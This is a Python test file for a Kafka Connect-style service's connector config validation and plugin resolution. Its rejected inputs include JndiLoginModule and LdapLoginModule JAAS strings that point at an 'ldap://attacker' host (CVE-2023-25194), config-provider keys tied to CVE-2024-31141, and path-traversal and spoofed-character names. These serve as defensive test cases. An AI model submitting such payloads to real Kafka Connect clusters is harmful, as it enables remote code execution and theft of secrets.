"""Connector config validation and plugin resolution (KIP-891 versions), without I/O."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from headrace.config.framework import Operator, check_create
from headrace.config.validation import Accepted, ConfigRejected, Problem
from headrace.core.model.clientconfig import allowlist, override_policy
from headrace.core.model.configstate import ConfigState, ConnectorConfigured, fold
from headrace.core.model.connectorconfig import ClientRules
from headrace.core.model.errors import PluginError
from headrace.core.model.plugins import PluginCatalog, version_key
from headrace.core.settings import BUILTIN_PLUGINS
from headrace.isolation.plugins import discover
from tests.support import install_manifest


def created(
    name: str, config: dict[str, str], catalog: PluginCatalog, operator: Operator | None = None
) -> Accepted:
    """A create's checks in an empty cluster, on headrace's default settings unless given."""
    return check_create(name, config, catalog, ConfigState(), operator or Operator())


@pytest.fixture
def catalog(tmp_path: Path) -> PluginCatalog:
    install_manifest(tmp_path, "File", "1.0.0", "source")
    install_manifest(tmp_path, "Lake", "1.9.0", "sink")
    install_manifest(tmp_path, "Lake", "1.10.0", "sink")
    return discover([tmp_path])


def rejected(
    name: str,
    config: dict[str, str],
    catalog: PluginCatalog,
    state: ConfigState | None = None,
    operator: Operator | None = None,
) -> ConfigRejected:
    with pytest.raises(ConfigRejected) as info:
        check_create(name, config, catalog, state or ConfigState(), operator or Operator())
    return info.value


def test_aliases_and_latest_version(catalog: PluginCatalog) -> None:
    for alias in ("com.example.LakeConnector", "LakeConnector", "Lake"):
        assert catalog.resolve(alias).version == "1.10.0"
    assert catalog.resolve("Lake", "1.9.0").version == "1.9.0"


def test_versions_sort_numerically() -> None:
    assert sorted(["1.10.0", "1.9.0", "1.9.1"], key=version_key) == ["1.9.0", "1.9.1", "1.10.0"]


def test_accepted_config_carries_its_name(catalog: PluginCatalog) -> None:
    accepted = check_create(
        "s", {"connector.class": "Lake", "topics": "t"}, catalog, ConfigState(), Operator()
    )
    assert accepted.config["name"] == "s"
    assert accepted.plugin.version == "1.10.0"


def test_missing_connector_class(catalog: PluginCatalog) -> None:
    err = rejected("s", {"tasks.max": "1"}, catalog)
    assert err.problem is Problem.INVALID
    assert "connector.class" in err.message


def test_unknown_plugin_names_what_is_installed(catalog: PluginCatalog) -> None:
    err = rejected("s", {"connector.class": "Nope"}, catalog)
    assert err.problem is Problem.NO_PLUGIN
    assert "Nope" in err.message and "com.example.LakeConnector" in err.message


@pytest.mark.parametrize("key", ["connector.plugin.version", "connector.version"])
def test_unknown_version_names_the_versions_that_exist(catalog: PluginCatalog, key: str) -> None:
    err = rejected("s", {"connector.class": "Lake", "topics": "t", key: "3.0.0"}, catalog)
    assert err.problem is Problem.NO_PLUGIN
    assert "3.0.0" in err.message and "1.9.0" in err.message and "1.10.0" in err.message


@pytest.mark.parametrize("value", ["0", "-2", "many", "1001", "1000000"])
def test_tasks_max_must_be_a_whole_number_from_1_to_1000(
    catalog: PluginCatalog, value: str
) -> None:
    err = rejected("s", {"connector.class": "File", "tasks.max": value}, catalog)
    assert err.problem is Problem.INVALID
    assert "tasks.max" in err.message


def test_duplicate_name_is_a_conflict(catalog: PluginCatalog) -> None:
    state = fold([ConnectorConfigured("s", {"connector.class": "File"})])
    err = rejected("s", {"connector.class": "File"}, catalog, state)
    assert err.problem is Problem.CONFLICT


@pytest.mark.parametrize("config", [{}, {"topics": "a", "topics.regex": "a.*"}])
def test_a_sink_needs_exactly_one_of_topics_and_topics_regex(
    catalog: PluginCatalog, config: dict[str, str]
) -> None:
    err = rejected("s", {"connector.class": "Lake", **config}, catalog)
    assert "topics" in err.message


@pytest.mark.parametrize("regex", ["(", "orders)", "\\p{Alpha}+", "orders(?i)-x"])
def test_a_sink_regex_that_cannot_be_read_as_java_reads_it_is_refused_by_name(
    catalog: PluginCatalog, regex: str
) -> None:
    err = rejected("s", {"connector.class": "Lake", "topics.regex": regex}, catalog)
    assert err.problem is Problem.INVALID and "- topics.regex: " in err.message


def test_a_sink_regex_in_java_syntax_is_accepted(catalog: PluginCatalog) -> None:
    config = {"connector.class": "Lake", "topics.regex": "(?<env>eu|us)-\\Qorders.v1\\E"}
    assert created("s", config, catalog).config["topics.regex"] == (config["topics.regex"])


@pytest.mark.parametrize(
    "name",
    [
        *("", "  ", "a\nb", " lead", "../../../some/dir/x", "a/b", "a\\b", ".", ".."),
        "invoice\u202efdp.exe",  # right-to-left override: shows as invoiceexe.pdf
        "zero\u200bwidth",
        "x" * 250,
        "x" * 10_000,
    ],
    ids=lambda name: f"{name[:12]!r}({len(name)})",
)
def test_bad_names(catalog: PluginCatalog, name: str) -> None:
    err = rejected(name, {"connector.class": "File"}, catalog)
    assert err.problem is Problem.INVALID and "- name: " in err.message


@pytest.mark.parametrize("name", ["my-connector", "a.b", "..x", "ünïcode name", "x" * 249])
def test_names_that_cannot_climb_out_of_a_folder_are_accepted(
    catalog: PluginCatalog, name: str
) -> None:
    assert created(name, {"connector.class": "File"}, catalog).name == name


def test_config_name_must_match(catalog: PluginCatalog) -> None:
    err = rejected("s", {"connector.class": "File", "name": "other"}, catalog)
    assert "name" in err.message


@pytest.mark.parametrize(
    ("key", "value", "reason"),
    [
        ("topic.creation.default.partitions", "0", "neither -1 nor a whole number above 0"),
        ("topic.creation.big.include", "b.*", "its group is not in topic.creation.groups"),
        ("value.converter.plugin.version", "3.9.0", "sets the version of no component"),
        ("errors.retry.timeout", "-5", "must be at least 0, got -5"),
        ("errors.retry.delay.max.ms", "0", "must be at least 1, got 0"),
        ("transaction.boundary", "row", "is not one of poll, interval, connector"),
        ("tasks.max.enforce", "sometimes", "'sometimes' is not true or false"),
        ("config.providers", "file", "config providers are the worker's to set"),
        ("config.providers.file.class", "x.FileConfigProvider", "(CVE-2024-31141)"),
        # At any prefix: each component and embedded client makes its providers from its keys.
        ("value.converter.config.providers", "_e", "(CVE-2024-31141)"),
        (
            "value.converter.config.providers._e.class",
            "org.apache.kafka.common.config.provider.EnvVarConfigProvider",
            "config providers are the worker's to set",
        ),
        ("source.cluster.config.providers", "f", "(CVE-2024-31141)"),
        ("schema.history.internal.producer.config.providers.d.param.x", "y", "(CVE-2024-31141)"),
        ("transforms.t.config.providers", "f", "(CVE-2024-31141)"),
        (
            "consumer.override.sasl.jaas.config",
            "com.sun.security.auth.module.JndiLoginModule required "
            'user.provider.url="ldap://attacker/x";',
            "names a directory login module (jndiloginmodule)",
        ),
        (
            "producer.override.sasl.jaas.config",
            "com.sun.security.auth.module.LdapLoginModule REQUIRED "
            'userProvider="ldap://attacker/ou=x";',
            "(ldaploginmodule)",
        ),
        (
            "sasl.jaas.config",
            "com.sun.security.auth.module.jndiloginmodule required;",
            "CVE-2023-25194",
        ),
        ("config.action.reload", "reload", "'reload' is not restart or none"),
        ("offsets.storage.topic", "my offsets", "offsets.storage.topic: "),
        ("offsets.storage.topic", "__consumer_offsets", "one of Kafka's internal topics"),
        ("offsets.storage.topic", "headrace-configs", "the configs topic of headrace cluster"),
    ],
)
def test_a_framework_key_not_honoured_is_refused_with_the_reason(
    catalog: PluginCatalog, key: str, value: str, reason: str
) -> None:
    err = rejected("s", {"connector.class": "File", key: value}, catalog)
    assert err.problem is Problem.INVALID
    assert f"- {key}: " in err.message and reason in err.message


def test_a_sink_creating_topics_is_refused(catalog: PluginCatalog) -> None:
    config = {"connector.class": "Lake", "topics": "t", "topic.creation.default.partitions": "1"}
    err = rejected("s", config, catalog)
    assert "topic.creation.default.partitions: only source connectors create" in err.message


def test_values_headrace_honours_are_accepted(
    catalog: PluginCatalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = {
        "connector.class": "Lake",
        "topics": "t",
        "errors.retry.timeout": "-1",
        "consumer.override.max.poll.records": "500",
        "tasks.max.enforce": "false",
        "config.action.reload": "none",
        "plugin.specific.key": "its own",  # a connector's own keys are its to read
    }
    everything = Operator(clients=ClientRules("All"))  # for the client override
    assert created("s", config, catalog, everything).config["errors.retry.timeout"] == "-1"


def test_broken_plugin_folders_are_listed_with_the_reason_and_the_rest_still_found(
    tmp_path: Path,
) -> None:
    install_manifest(tmp_path, "Good", "1.0.0", "source")
    (tmp_path / "unreadable" / "1.0.0").mkdir(parents=True)
    (tmp_path / "unreadable" / "1.0.0" / "manifest.json").write_text("{not json")
    (tmp_path / "typeless" / "1.0.0").mkdir(parents=True)
    (tmp_path / "typeless" / "1.0.0" / "manifest.json").write_text('{"class": "m.C"}')
    install_manifest(tmp_path / "copy", "Good", "1.0.0", "source")  # the same class and version

    found = discover([tmp_path, tmp_path / "copy"])
    assert [(p.class_name, p.version) for p in found.plugins] == [
        ("com.example.GoodConnector", "1.0.0")
    ]
    reasons = {b.folder.relative_to(tmp_path).as_posix(): b.reason for b in found.broken}
    assert "unreadable manifest" in reasons["unreadable/1.0.0"]
    assert "lacks version, type" in reasons["typeless/1.0.0"]
    assert "is also in" in reasons["copy/Good/1.0.0"]
    with pytest.raises(PluginError, match="broken, see the plugin list: 3"):
        found.resolve("Typeless")


def test_a_sink_says_what_it_promises_of_its_records_in_its_manifest(tmp_path: Path) -> None:
    found = discover([BUILTIN_PLUGINS])
    promised = {p.class_name.rsplit(".", 1)[-1]: p.delivery for p in found.plugins}
    assert promised["DeltaSinkConnector"] == "exactly-once"
    assert promised["ParquetSinkConnector"] == "at-least-once"
    assert promised["DatagenSourceConnector"] == ""
    for name, kind, delivery in [("Twice", "sink", "twice"), ("Src", "source", "exactly-once")]:
        install_manifest(tmp_path, name, "1.0.0", kind)
        manifest = tmp_path / name / "1.0.0" / "manifest.json"
        manifest.write_text(json.dumps({**json.loads(manifest.read_text()), "delivery": delivery}))
    reasons = {b.folder.parent.name: b.reason for b in discover([tmp_path]).broken}
    said = "delivery is for sinks, one of exactly-once, at-least-once, not"
    assert f"{said} 'twice'" in reasons["Twice"]
    assert f"{said} 'exactly-once'" in reasons["Src"]


def test_a_plugin_that_writes_through_the_executor_says_so_in_its_manifest(
    tmp_path: Path,
) -> None:
    found = discover([BUILTIN_PLUGINS])
    uses = {p.class_name.rsplit(".", 1)[-1]: p.uses_executor for p in found.plugins}
    assert uses == {
        "DatagenSourceConnector": False,
        "FileStreamSourceConnector": False,
        "FileStreamSinkConnector": False,
        "ParquetSinkConnector": True,
        "DeltaSinkConnector": True,
        "JdbcSinkConnector": True,
        "TextFilesSinkConnector": True,
    }
    install_manifest(tmp_path, "Odd", "1.0.0", "sink")
    manifest = tmp_path / "Odd" / "1.0.0" / "manifest.json"
    manifest.write_text(json.dumps({**json.loads(manifest.read_text()), "executor": "yes"}))
    (broken,) = discover([tmp_path]).broken
    assert "executor must be true or false, not 'yes'" in broken.reason


PLAIN_LOGIN = (
    'org.apache.kafka.common.security.plain.PlainLoginModule required username="a" password="b";'
)


@pytest.mark.parametrize(
    ("policy", "key", "value", "reason"),
    [
        ("None", "consumer.override.max.poll.records", "500", "policy is None, which lets"),
        ("None", "producer.override.security.protocol", "SSL", "override none"),
        ("Principal", "consumer.override.max.poll.records", "500", "override only security"),
        ("Principal", "producer.override.security.protocol", "SSL", "goes with bootstrap.servers"),
        ("Allowlist", "producer.override.batch.size", "9", "allowlist (fetch.min.bytes, linger"),
        ("All", "admin.override.retries", "1", "Kafka clients have no such setting"),
        ("All", "consumer.override.max.poll.records", "0", "is not a whole number of at least"),
        ("All", "producer.override.acks", "1", "idempotent, which needs acks=all"),
        ("All", "producer.override.transactional.id", "t", "fences the task's zombies"),
        ("All", "consumer.override.isolation.level", "read_uncommitted", "must never deliver"),
        ("All", "consumer.override.linger.ms", "5", "a setting of the producer, not the consumer"),
        ("All", "producer.override.bootstrap.servers", "elsewhere:9092", "the cluster is the"),
        ("All", "admin.override.ssl.truststore.location", "/x", "TLS files and checks are"),
        ("All", "producer.override.sasl.jaas.config", PLAIN_LOGIN, "over PLAINTEXT, which has"),
    ],
)
def test_client_overrides_are_refused_by_the_operator_s_policy_then_by_support(
    catalog: PluginCatalog,
    monkeypatch: pytest.MonkeyPatch,
    policy: str,
    key: str,
    value: str,
    reason: str,
) -> None:
    rules = ClientRules(override_policy(policy), allowlist("linger.ms, fetch.min.bytes"))
    operator = Operator(clients=rules)
    err = rejected("s", {"connector.class": "File", key: value}, catalog, operator=operator)
    assert err.problem is Problem.INVALID
    assert f"- {key}: " in err.message and reason in err.message


def test_the_policy_all_lets_through_what_headrace_honours(
    catalog: PluginCatalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    everything = Operator(clients=ClientRules(override_policy("all")))
    config = {
        "connector.class": "File",
        "consumer.override.max.poll.records": "500",
        "producer.override.compression.type": "zstd",
        "producer.override.linger.ms": "20",
        "admin.override.request.timeout.ms": "5000",
        "consumer.override.group.id": "connect-file",
    }
    assert created("s", config, catalog, everything).config == {
        **config,
        "name": "s",
    }


def test_the_allowlist_policy_lets_through_the_keys_it_lists(
    catalog: PluginCatalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    listed = Operator(clients=ClientRules("Allowlist", allowlist("compression.type")))
    config = {"connector.class": "File", "producer.override.compression.type": "lz4"}
    assert created("s", config, catalog, listed).config == {
        **config,
        "name": "s",
    }


def test_an_unknown_policy_is_named() -> None:
    with pytest.raises(ValueError, match="'Some' is not one of None, Principal, All, Allowlist"):
        override_policy("Some")


@pytest.mark.parametrize(
    ("config", "key", "says"),
    [
        ({"topics": "orders, headrace-configs"}, "topics", "the configs topic of headrace"),
        ({"topics": "__consumer_offsets"}, "topics", "one of Kafka's internal topics"),
        (
            {"topics": "orders", "errors.deadletterqueue.topic.name": "headrace-requests"},
            "errors.deadletterqueue.topic.name",
            "the requests topic",
        ),
        ({"topics": "headrace-automation-answers-changelog"}, "topics", "automation agent"),
    ],
)
def test_no_connector_may_name_an_internal_topic(
    catalog: PluginCatalog, config: dict[str, str], key: str, says: str
) -> None:
    err = rejected("s", {"connector.class": "Lake", **config}, catalog)
    assert err.problem is Problem.INVALID
    assert f"- {key}: " in err.message and says in err.message


def test_topics_that_only_look_internal_are_a_connector_s_to_use(catalog: PluginCatalog) -> None:
    config = {"connector.class": "Lake", "topics": "headrace-configs-copy,other-requests,_x"}
    assert created("s", config, catalog).config["topics"] == config["topics"]
